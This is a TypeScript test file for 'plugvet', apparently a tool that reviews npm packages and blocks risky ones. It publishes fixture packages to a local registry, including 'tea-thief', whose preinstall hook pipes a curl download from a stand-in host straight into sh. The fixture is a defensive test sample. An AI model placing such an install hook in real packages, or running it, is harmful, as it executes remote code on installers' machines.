import { spawn } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { Ajv } from 'ajv'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { launcher, scratch } from '../support/plugvet.ts'
import type { Run } from '../support/plugvet.ts'
import { startRegistry } from '../support/registry.ts'
import type { TestRegistry } from '../support/registry.ts'

let registry: TestRegistry
const home = scratch('home')

beforeAll(async () => {
  registry = await startRegistry()
  const manifest = (version: string) => ({ name: 'tea-timer', version, main: 'index.js', license: 'MIT' })
  await registry.publish({ manifest: manifest('1.0.0'), files: { 'index.js': 'exports.minutes = grams => grams / 2\n' } })
  await registry.publish({ manifest: manifest('1.1.0'), files: { 'index.js': 'exports.minutes = grams => fetch("https://tea.example.invalid/" + grams)\n' } })
  await registry.publish({ manifest: { name: 'tea-thief', version: '0.0.1', scripts: { preinstall: 'curl -s https://tea.example.invalid/brew.sh | sh' } } })
})
afterAll(async () => { await registry.stop() })

/** The registry answers from this process, so the program must not be waited for in a blocking way. */
const plugvet = (...args: readonly string[]): Promise<Run> => new Promise(resolve => {
  const env = { PATH: process.env['PATH'] ?? '', HOME: home, npm_config_registry: registry.url, npm_config_fetch_retries: '0' }
  const child = spawn(process.execPath, [launcher, ...args], { env, cwd: home })
  let [stdout, stderr] = ['', '']
  child.stdout.on('data', (part: Buffer) => { stdout += part.toString() })
  child.stderr.on('data', (part: Buffer) => { stderr += part.toString() })
  child.on('close', code => resolve({ code, stdout, stderr }))
})

const schema = JSON.parse(readFileSync(new URL('../../docs/schema/scan-report.schema.json', import.meta.url), 'utf8')) as object
const isReport = new Ajv({ allErrors: true, strictTypes: false }).compile(schema)

describe('plugvet review', () => {
  test('exits with 0 for what it allows, and its JSON holds to the schema', async () => {
    const { code, stdout, stderr } = await plugvet('review', 'tea-timer@1.0.0', '--json')
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
    const report = JSON.parse(stdout) as Record<string, any>
    expect(isReport(report), JSON.stringify(isReport.errors)).toBe(true)
    expect(report).toMatchObject({ verdict: 'allow', package: { name: 'tea-timer', version: '1.0.0', scripts: {}, provenance: { state: 'absent' } } })
    expect(report).not.toHaveProperty('changes')
  })

  test('gives the same bytes again, from what it kept or not', async () => {
    const first = await plugvet('review', 'tea-timer@1.1.0', '--json')
    const [again, fresh] = [await plugvet('review', 'tea-timer@1.1.0', '--json'), await plugvet('review', 'tea-timer@1.1.0', '--json', '--no-cache', '--jobs', '0')]
    // How long ago it was published is the one thing that moves.
    const still = ({ stdout }: Run): string => stdout.replace(/\d+ (?:minute|second)s? ago/g, 'just now')
    expect(still(again)).toBe(still(first))
    expect(still(fresh)).toBe(still(first))
  })

  test('exits with 1 for what it blocks, with 3 for what it could not have', async () => {
    expect(await plugvet('review', 'tea-thief')).toMatchObject({ code: 1, stdout: expect.stringMatching(/^BLOCK {2}tea-thief 0\.0\.1/) })
    expect(await plugvet('review', 'no-such-tea')).toMatchObject({ code: 3, stdout: expect.stringContaining('Could not look') })
    expect(await plugvet('review', 'no-such-tea', '--allow-incomplete')).toMatchObject({ code: 0 })
    expect(await plugvet('review', 'tea-timer@1.0.0', '--min-age', '3d', '--fail-on', 'warn')).toMatchObject({ code: 1 })
  })

  test('tells what an update changes', async () => {
    const { stdout } = await plugvet('review', 'tea-timer', '--against', 'tea-timer@1.0.0', '--json')
    const report = JSON.parse(stdout) as Record<string, any>
    expect(isReport(report), JSON.stringify(isReport.errors)).toBe(true)
    expect(report['changes']).toMatchObject({
      against: 'tea-timer 1.0.0', capabilities: { added: [{ capability: 'network', file: 'index.js', line: 1 }], removed: [] },
      files: { added: [], changed: ['index.js', 'package.json'], removed: [] },
    })
    const { stdout: text } = await plugvet('review', 'tea-timer', '--against', 'tea-timer@1.0.0')
    expect(text).toContain('New: it talks to tea.example.invalid')
  })

  test('says of several packages which is which', async () => {
    const report = JSON.parse((await plugvet('review', 'tea-timer@1.0.0', 'tea-thief', '--json')).stdout) as Record<string, any>
    expect(isReport(report), JSON.stringify(isReport.errors)).toBe(true)
    expect(report['packages'].map(({ target, name }: { target: number; name: string }) => [target, name])).toEqual([[0, 'tea-timer'], [1, 'tea-thief']])
  })

  test.each([
    [['review'], 'nothing to review: plugvet review <spec...>'],
    [['review', 'tea-timer', '--all'], '--all goes with --against installed'],
    [['review', 'tea-timer', '--min-age', 'soon'], '--min-age is an age such as 3d, 12h or 2w, not "soon"'],
    [['review', 'tea timer'], 'is no package'],
    [['review', './nowhere'], 'there is no'],
    [['review', '--against', 'installed', '--all'], 'nothing to compare'],
  ])('refuses %j', async (args, complaint) => {
    const { code, stdout, stderr } = await plugvet(...args)
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' })
    expect(stderr).toContain(complaint)
  })
})
